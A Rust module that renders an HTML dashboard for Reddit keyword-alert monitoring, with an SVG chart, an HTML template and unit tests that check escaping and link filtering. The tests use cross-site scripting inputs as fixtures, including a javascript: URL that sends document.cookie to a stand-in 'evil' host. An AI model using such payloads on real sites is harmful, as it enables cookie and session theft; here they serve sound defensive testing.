use crate::models::{Alert, Bucket, Period, SummaryResponse};
use std::fmt::Write;

pub struct DashboardView<'a> {
    pub client_id: Option<u64>,
    pub period: Period,
    pub series: &'a [Bucket],
    pub summary: &'a SummaryResponse,
    pub recent: &'a [Alert],
}

const CHART_WIDTH: f64 = 720.0;
const CHART_HEIGHT: f64 = 240.0;
const CHART_PADDING: f64 = 28.0;

pub fn render_dashboard(view: &DashboardView<'_>) -> String {
    let heading = match view.client_id {
        Some(id) => format!("Client #{id} dashboard"),
        None => "All clients".to_string(),
    };
    let latest = view
        .summary
        .latest_alert_at
        .map(|at| at.format("%b %d, %Y %H:%M:%S").to_string())
        .unwrap_or_else(|| "No alerts yet".to_string());

    INDEX_HTML
        .replace("{{HEADING}}", &escape_html(&heading))
        .replace("{{TOTAL}}", &view.summary.total_alerts.to_string())
        .replace("{{TODAY}}", &view.summary.alerts_today.to_string())
        .replace("{{KEYWORDS}}", &view.summary.unique_keywords.to_string())
        .replace("{{SUBREDDITS}}", &view.summary.total_subreddits.to_string())
        .replace("{{LATEST}}", &escape_html(&latest))
        .replace("{{TABS}}", &render_tabs(view.client_id, view.period))
        .replace("{{CHART}}", &render_chart(view.series))
        .replace("{{ROWS}}", &render_rows(view.recent))
}

fn render_tabs(client_id: Option<u64>, active: Period) -> String {
    let mut html = String::new();
    for period in Period::ALL {
        let href = match client_id {
            Some(id) => format!("/?client_id={id}&period={}", period.as_str()),
            None => format!("/?period={}", period.as_str()),
        };
        let class = if period == active { "tab active" } else { "tab" };
        let _ = write!(
            html,
            r#"<a class="{class}" role="tab" href="{}">{}</a>"#,
            escape_html(&href),
            title_case(period.as_str())
        );
    }
    html
}

/// Bar chart, one bar per bucket; hovering shows the long label.
fn render_chart(series: &[Bucket]) -> String {
    let max = series.iter().map(|bucket| bucket.count).max().unwrap_or(0).max(1);
    let plot_height = CHART_HEIGHT - CHART_PADDING * 2.0;
    let slot = if series.is_empty() {
        0.0
    } else {
        (CHART_WIDTH - CHART_PADDING * 2.0) / series.len() as f64
    };
    let bar_width = (slot * 0.7).max(1.0);
    // month view has 30 bars, label every fifth
    let label_every = if series.len() > 12 { 5 } else { 1 };

    let mut svg = format!(
        r#"<svg id="chart" viewBox="0 0 {CHART_WIDTH} {CHART_HEIGHT}" role="img" aria-label="Opportunity activity over time">"#
    );
    let baseline = CHART_HEIGHT - CHART_PADDING;
    let _ = write!(
        svg,
        r#"<line class="chart-axis" x1="{CHART_PADDING}" y1="{baseline}" x2="{}" y2="{baseline}" />"#,
        CHART_WIDTH - CHART_PADDING
    );

    for (index, bucket) in series.iter().enumerate() {
        let height = plot_height * bucket.count as f64 / max as f64;
        let x = CHART_PADDING + slot * index as f64 + (slot - bar_width) / 2.0;
        let y = baseline - height;
        let _ = write!(
            svg,
            r#"<rect class="chart-bar" x="{x:.1}" y="{y:.1}" width="{bar_width:.1}" height="{height:.1}" rx="4"><title>{}: {}</title></rect>"#,
            escape_html(&bucket.full_label),
            bucket.count
        );
        if index % label_every == 0 || index + 1 == series.len() {
            let _ = write!(
                svg,
                r#"<text class="chart-label" x="{:.1}" y="{:.1}" text-anchor="middle">{}</text>"#,
                x + bar_width / 2.0,
                baseline + 16.0,
                escape_html(&bucket.label)
            );
        }
    }

    svg.push_str("</svg>");
    svg
}

fn render_rows(alerts: &[Alert]) -> String {
    if alerts.is_empty() {
        return r#"<tr><td colspan="4" class="hint">No alerts recorded.</td></tr>"#.to_string();
    }

    let mut rows = String::new();
    for alert in alerts {
        let title = if alert.post_title.is_empty() {
            &alert.post_id
        } else {
            &alert.post_title
        };
        let post = if !is_web_url(&alert.post_url) {
            escape_html(title)
        } else {
            format!(
                r#"<a href="{}" rel="noopener">{}</a>"#,
                escape_html(&alert.post_url),
                escape_html(title)
            )
        };
        let _ = write!(
            rows,
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{post}</td></tr>",
            alert.sent_at.format("%b %d, %Y %H:%M:%S"),
            escape_html(&alert.matched_keyword),
            escape_html(&format_subreddit(&alert.subreddit)),
        );
    }
    rows
}

/// Only `http://` and `https://` links are ever rendered as anchors.
pub fn is_web_url(url: &str) -> bool {
    let url = url.trim_start();
    ["http://", "https://"].iter().any(|scheme| {
        url.get(..scheme.len())
            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(scheme))
    })
}

pub fn format_subreddit(subreddit: &str) -> String {
    if subreddit == "all" {
        "All Subreddits".to_string()
    } else {
        format!("r/{subreddit}")
    }
}

fn title_case(word: &str) -> String {
    let mut chars = word.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

fn escape_html(value: &str) -> String {
    let mut escaped = String::with_capacity(value.len());
    for ch in value.chars() {
        match ch {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            _ => escaped.push(ch),
        }
    }
    escaped
}

const INDEX_HTML: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="UTF-8" />
  <meta name="viewport" content="width=device-width, initial-scale=1.0" />
  <title>Opportunity Dashboard</title>
  <style>
    :root {
      --bg-1: #f4f6f8;
      --ink: #1f2933;
      --accent: #ff5700;
      --accent-2: #2f4858;
      --card: rgba(255, 255, 255, 0.92);
      --shadow: 0 24px 60px rgba(47, 72, 88, 0.16);
    }

    * {
      box-sizing: border-box;
    }

    body {
      margin: 0;
      min-height: 100vh;
      background: linear-gradient(135deg, var(--bg-1), #fff3eb 70%);
      color: var(--ink);
      font-family: "Trebuchet MS", sans-serif;
      display: grid;
      place-items: center;
      padding: 32px 18px 48px;
    }

    .app {
      width: min(960px, 100%);
      background: var(--card);
      border-radius: 28px;
      box-shadow: var(--shadow);
      padding: 36px;
      display: grid;
      gap: 28px;
    }

    h1 {
      font-family: "Georgia", serif;
      font-size: clamp(1.8rem, 4vw, 2.4rem);
      margin: 0;
    }

    .subtitle {
      margin: 4px 0 0;
      color: #5f5c57;
    }

    .panel {
      display: grid;
      grid-template-columns: repeat(auto-fit, minmax(160px, 1fr));
      gap: 16px;
    }

    .stat {
      background: white;
      border-radius: 18px;
      padding: 18px;
      border: 1px solid rgba(47, 72, 88, 0.08);
      display: grid;
      gap: 8px;
    }

    .stat .label {
      font-size: 0.8rem;
      text-transform: uppercase;
      letter-spacing: 0.12em;
      color: #8b857d;
    }

    .stat .value {
      font-size: 1.5rem;
      font-weight: 600;
      color: var(--accent-2);
    }

    .chart-header {
      display: flex;
      flex-wrap: wrap;
      align-items: center;
      justify-content: space-between;
      gap: 16px;
    }

    .chart-header h2 {
      margin: 0;
      font-size: 1.4rem;
    }

    .tabs {
      display: flex;
      gap: 6px;
      padding: 6px;
      background: rgba(47, 72, 88, 0.08);
      border-radius: 999px;
    }

    .tab {
      border-radius: 999px;
      padding: 8px 14px;
      font-size: 0.9rem;
      font-weight: 600;
      color: #6b645d;
      text-decoration: none;
    }

    .tab.active {
      background: white;
      color: var(--accent-2);
      box-shadow: 0 8px 16px rgba(47, 72, 88, 0.12);
    }

    .chart-card {
      background: white;
      border-radius: 20px;
      padding: 16px;
      border: 1px solid rgba(47, 72, 88, 0.08);
    }

    #chart {
      width: 100%;
      height: 260px;
      display: block;
    }

    .chart-bar {
      fill: var(--accent);
    }

    .chart-axis {
      stroke: rgba(47, 72, 88, 0.25);
      stroke-dasharray: 4 6;
    }

    .chart-label {
      fill: #7a746d;
      font-size: 11px;
    }

    table {
      width: 100%;
      border-collapse: collapse;
      font-size: 0.92rem;
    }

    th, td {
      text-align: left;
      padding: 10px 8px;
      border-bottom: 1px solid rgba(47, 72, 88, 0.08);
    }

    .hint {
      color: #6f6a65;
    }
  </style>
</head>
<body>
  <main class="app">
    <header>
      <h1>{{HEADING}}</h1>
      <p class="subtitle">Overview of your Reddit intelligence monitoring.</p>
    </header>

    <section class="panel">
      <div class="stat">
        <span class="label">Alerts</span>
        <span class="value">{{TOTAL}}</span>
      </div>
      <div class="stat">
        <span class="label">Today</span>
        <span class="value">{{TODAY}}</span>
      </div>
      <div class="stat">
        <span class="label">Keywords</span>
        <span class="value">{{KEYWORDS}}</span>
      </div>
      <div class="stat">
        <span class="label">Subreddits</span>
        <span class="value">{{SUBREDDITS}}</span>
      </div>
    </section>

    <section>
      <div class="chart-header">
        <div>
          <h2>Opportunity Trends</h2>
          <p class="subtitle">Latest alert: {{LATEST}}</p>
        </div>
        <nav class="tabs" role="tablist">{{TABS}}</nav>
      </div>
      <div class="chart-card">{{CHART}}</div>
    </section>

    <section>
      <h2>Recent alerts</h2>
      <table>
        <thead>
          <tr><th>Sent</th><th>Keyword</th><th>Subreddit</th><th>Post</th></tr>
        </thead>
        <tbody>{{ROWS}}</tbody>
      </table>
    </section>
  </main>
</body>
</html>
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engagement::aggregate_at;
    use chrono::{NaiveDate, NaiveDateTime};

    fn now() -> NaiveDateTime {
        NaiveDate::from_ymd_opt(2024, 6, 10)
            .unwrap()
            .and_hms_opt(12, 0, 0)
            .unwrap()
    }

    fn empty_summary() -> SummaryResponse {
        SummaryResponse {
            total_alerts: 0,
            alerts_today: 0,
            unique_keywords: 0,
            total_subreddits: 0,
            latest_alert_at: None,
        }
    }

    #[test]
    fn dashboard_draws_one_bar_per_bucket() {
        let series = aggregate_at(&vec![now()], Period::Month, now());
        let summary = empty_summary();
        let html = render_dashboard(&DashboardView {
            client_id: Some(4),
            period: Period::Month,
            series: &series,
            summary: &summary,
            recent: &[],
        });

        assert_eq!(html.matches("<rect class=\"chart-bar\"").count(), 30);
        assert!(html.contains("Jun 10, 2024: 1"));
        assert!(html.contains(r#"<a class="tab active" role="tab" href="/?client_id=4&amp;period=month">Month</a>"#));
        assert!(html.contains("No alerts recorded."));
        assert!(!html.contains("{{"));
    }

    #[test]
    fn alert_rows_are_escaped() {
        let alert = Alert {
            id: 1,
            client_id: 1,
            keyword_id: 1,
            post_id: "t3_1".into(),
            post_title: "<script>alert(1)</script>".into(),
            post_url: String::new(),
            subreddit: "all".into(),
            matched_keyword: "a&b".into(),
            sent_at: now(),
        };
        let rows = render_rows(&[alert]);
        assert!(rows.contains("&lt;script&gt;"));
        assert!(rows.contains("a&amp;b"));
        assert!(rows.contains("All Subreddits"));
        assert!(rows.contains("Jun 10, 2024 12:00:00"));
    }

    #[test]
    fn script_urls_render_as_plain_text() {
        let alert = Alert {
            id: 2,
            client_id: 1,
            keyword_id: 1,
            post_id: "t3_2".into(),
            post_title: "click me".into(),
            post_url: "javascript:fetch('//evil/'+document.cookie)".into(),
            subreddit: "rust".into(),
            matched_keyword: "rust".into(),
            sent_at: now(),
        };
        let rows = render_rows(&[alert.clone()]);
        assert!(!rows.contains("href="));
        assert!(rows.contains("<td>click me</td>"));

        let safe = Alert {
            post_url: "HTTPS://reddit.com/r/rust/t3_2".into(),
            ..alert
        };
        assert!(render_rows(&[safe]).contains(r#"<a href="HTTPS://reddit.com/r/rust/t3_2""#));
    }

    #[test]
    fn web_url_schemes() {
        assert!(is_web_url("https://reddit.com/r/rust"));
        assert!(is_web_url("http://old.reddit.com"));
        assert!(!is_web_url("javascript:alert(1)"));
        assert!(!is_web_url("data:text/html,hi"));
        assert!(!is_web_url("//evil.example"));
        assert!(!is_web_url(""));
    }

    #[test]
    fn subreddit_display_names() {
        assert_eq!(format_subreddit("all"), "All Subreddits");
        assert_eq!(format_subreddit("rust"), "r/rust");
    }
}
